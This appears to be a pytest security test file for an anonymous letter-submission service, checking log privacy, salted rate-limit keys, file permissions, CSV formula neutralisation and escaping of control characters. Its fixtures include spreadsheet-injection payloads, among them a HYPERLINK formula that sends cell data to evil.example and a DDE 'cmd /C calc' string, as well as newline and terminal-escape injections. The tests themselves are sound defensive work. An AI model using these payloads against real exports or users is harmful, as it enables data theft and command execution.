"""Letters to the head: who wrote stays unknown, the register is private, exports are safe.

Attacks closed here: the log wrote the sender's address next to "letter 2026-0001
registered"; ``letters.sqlite3`` and its ``-wal``/``-shm`` files were world-readable; the
service started in a folder anyone could read; the CSV export carried spreadsheet
formulas; a new line in a name made false rows in ``letters list``.
"""

from __future__ import annotations

import csv
import hashlib
import logging
import os
import re
import sqlite3
import stat
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from site_gen.blog.letters import LetterIn
from site_gen.blog.server import RateLimiter
from site_gen.blog.store import LetterStore
from site_gen.cli import main
from tests.security.letters_harness import LETTER, SITE, Endpoint, running

REPO = Path(__file__).resolve().parents[2]
WRITER = "10.20.30.40"


def test_no_address_is_logged_with_a_letter(tmp_path: Path,
                                            caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with running(tmp_path / "letters.sqlite3") as endpoint:
        status, _h, body = endpoint.request(
            "POST", b"[" * 5000 + b"]" * 5000,
            {"Content-Type": "application/json", "X-Forwarded-For": WRITER})
        assert status == 400  # a refused request is logged too: still with no address
        status, _h, body = endpoint.request(
            "POST", LETTER_BYTES, {"Content-Type": "application/json", "X-Forwarded-For": WRITER})
    assert status == 201
    assert f"letter {body['number']} registered" in caplog.text and "nested" in caplog.text
    assert WRITER not in caplog.text and "127.0.0.1" not in caplog.text


def test_the_flood_counter_keeps_only_a_salted_hash() -> None:
    limiter = RateLimiter(2, 60.0)
    limiter.check(WRITER)
    remembered = list(limiter._seen)  # what the process holds about writers
    assert len(remembered) == 1
    assert WRITER.encode() not in remembered[0]
    assert remembered[0] not in {hashlib.sha256(WRITER.encode()).digest()[:16],
                                 hashlib.blake2b(WRITER.encode(), digest_size=16).digest()}
    # another process (a restart) has another salt: yesterday's hashes match nothing
    assert RateLimiter(2, 60.0).key(WRITER) != remembered[0]


def test_each_writer_has_a_bucket_behind_the_proxy_and_no_one_can_pose_as_it(
        tmp_path: Path) -> None:
    def post_as(endpoint: Endpoint, address: str) -> int:
        return endpoint.request(
            "POST", LETTER_BYTES, {"Content-Type": "application/json", "Origin": SITE,
                                   "X-Forwarded-For": address})[0]

    with running(tmp_path / "a.sqlite3", limit=2) as endpoint:  # we are 127.0.0.1, the proxy
        assert [post_as(endpoint, "10.0.0.2") for _ in range(3)] == [201, 201, 429]
        assert post_as(endpoint, "10.0.0.3") == 201
    with running(tmp_path / "b.sqlite3", limit=2, trusted_proxy="127.0.0.9") as endpoint:
        # Not the trusted proxy: the header is ignored, every "writer" is one client.
        assert [post_as(endpoint, f"10.0.0.{i}") for i in range(2, 5)] == [201, 201, 429]


LETTER_BYTES = ('{"department": "Жылу желілері", "lang": "kk", "answer": "blog", '
                '"consent": true, "text": "Асханада таңғы ас сағат жетіде басталса екен."}'
                ).encode()


@contextmanager
def umask(mask: int) -> Iterator[None]:
    old = os.umask(mask)
    try:
        yield
    finally:
        os.umask(old)


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def test_the_register_and_its_side_files_are_the_owners_only(tmp_path: Path) -> None:
    db = tmp_path / "var" / "letters.sqlite3"
    with umask(0o022), running(db) as endpoint:
        reader = sqlite3.connect(db)  # the office's reader keeps the write-ahead log open
        try:
            reader.execute("SELECT count(*) FROM letters").fetchone()
            assert endpoint.post(LETTER)[0] == 201
            sides = [db.with_name(db.name + s) for s in ("", "-wal", "-shm")]
            assert all(p.exists() for p in sides)
            assert {p.name: mode(p) for p in sides} == {p.name: 0o600 for p in sides}
        finally:
            reader.close()
    assert mode(db.parent) == 0o700


def test_an_old_register_is_made_private_when_opened(tmp_path: Path) -> None:
    db = tmp_path / "letters.sqlite3"
    with umask(0o022):
        sqlite3.connect(db).close()
    db.chmod(0o644)
    LetterStore(db)
    assert mode(db) == 0o600


def serve(db: Path) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [sys.executable, "-m", "site_gen.cli", "letters", "serve", "--port", "0",
         "--db", str(db), "--content", str(db.parent / "no-content")],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=REPO)


@pytest.mark.parametrize("folder_mode", [0o755, 0o750, 0o703])
def test_serve_refuses_a_folder_others_can_open(tmp_path: Path, folder_mode: int) -> None:
    folder = tmp_path / "var"
    folder.mkdir()
    folder.chmod(folder_mode)
    process = serve(folder / "letters.sqlite3")
    try:
        out, err = process.communicate(timeout=30)
    except subprocess.TimeoutExpired:
        process.kill()
        process.communicate()
        raise AssertionError("letters serve started in a folder others can read") from None
    assert process.returncode == 2
    assert f"mode {folder_mode:03o}" in err and f"chmod 700 {folder}" in err
    assert "Traceback" not in err and not (folder / "letters.sqlite3").exists()


def test_serve_starts_in_a_private_folder(tmp_path: Path) -> None:
    folder = tmp_path / "var"
    folder.mkdir(mode=0o700)
    process = serve(folder / "letters.sqlite3")
    try:
        assert process.stdout is not None
        assert re.search(r"listening on http://127\.0\.0\.1:\d+/", process.stdout.readline())
        assert mode(folder / "letters.sqlite3") == 0o600
    finally:
        process.terminate()
        process.communicate(timeout=10)
    assert process.returncode == 0  # SIGTERM: a clean stop


# -- what the office reads -------------------------------------------------------------

ALMATY = ZoneInfo("Asia/Almaty")
HOSTILE = {
    "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Ашу\")",
    "department": "+7 701 123 45 67",
    "text": "@SUM(1+1)*cmd|' /C calc'!A0 — хат мәтіні",
}


def office(tmp_path: Path, letters: list[LetterIn]) -> Path:
    db = tmp_path / "letters.sqlite3"
    store = LetterStore(db)
    for letter in letters:
        store.add(letter, datetime(2026, 11, 23, 10, tzinfo=ALMATY))
    return db


def run(db: Path, *args: str) -> int:
    return main(["letters", *args, "--db", str(db), "--content", str(db.parent / "none"),
                 "--date", "2026-11-23"])


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_csv_export_carries_no_formula(tmp_path: Path, start: str) -> None:
    db = office(tmp_path, [
        LetterIn(HOSTILE["name"], HOSTILE["department"], "kk", HOSTILE["text"]),
        LetterIn(start + "2+3", start + "cmd", "ru", start + "1 Обычное письмо в профком."),
        LetterIn("Айгүл", "Цех № 3", "kk", "Жай хат, формуласыз."),
    ])
    assert run(db, "export", "-o", str(tmp_path / "out.csv")) == 0
    with (tmp_path / "out.csv").open(encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["name"] for r in rows] == ["'" + HOSTILE["name"], "'" + start + "2+3", "Айгүл"]
    assert [r["department"] for r in rows] == ["'" + HOSTILE["department"], "'" + start + "cmd",
                                               "Цех № 3"]
    for row in rows:
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert rows[2]["received"].startswith("2026-11-23")  # the rest is left as it was


def test_letters_list_shows_one_line_per_letter(tmp_path: Path,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    fake = "\n2026-9999  2026-11-23 10:00  reply by 2026-11-26  open  [kk] Басшылық: жалған"
    db = office(tmp_path, [
        LetterIn("Айгүл" + fake, "Цех\r№ 3\x1b[2J", "kk", "Бірінші хат мәтіні осында."),
        LetterIn("", "Бухгалтерия\u2028", "ru", "Второе письмо\u202e без подвоха."),
    ])
    assert run(db, "list") == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 3, lines  # two letters and the count
    assert [line.split()[0] for line in lines[:2]] == ["2026-0001", "2026-0002"]
    assert lines[2].startswith("2 letters:")
    assert "Айгүл\\n2026-9999" in lines[0] and "\\x1b[2J" in lines[0] and "\\r" in lines[0]
    assert "\\u2028" in lines[1] and "\\u202e" in lines[1]
